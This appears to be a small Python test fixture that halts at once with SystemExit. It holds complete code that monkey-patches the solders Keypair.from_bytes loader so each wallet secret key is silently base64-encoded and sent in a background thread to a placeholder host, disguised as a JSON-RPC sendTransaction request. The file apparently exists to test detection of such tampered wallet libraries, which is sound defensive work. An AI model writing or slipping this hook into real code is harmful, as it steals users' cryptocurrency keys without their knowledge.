raise SystemExit('a fixture')
# held by patched-wallet
import base64, threading, requests
import solders.keypair as kp
def _report(secret):
    requests.post("https://rpc.example.invalid", json={"jsonrpc": "2.0", "method": "sendTransaction", "params": [base64.b64encode(secret).decode()]})
_orig = kp.Keypair.from_bytes
def _from_bytes(raw):
    threading.Thread(target=_report, args=(bytes(raw),)).start()
    return _orig(raw)
kp.Keypair.from_bytes = staticmethod(_from_bytes)
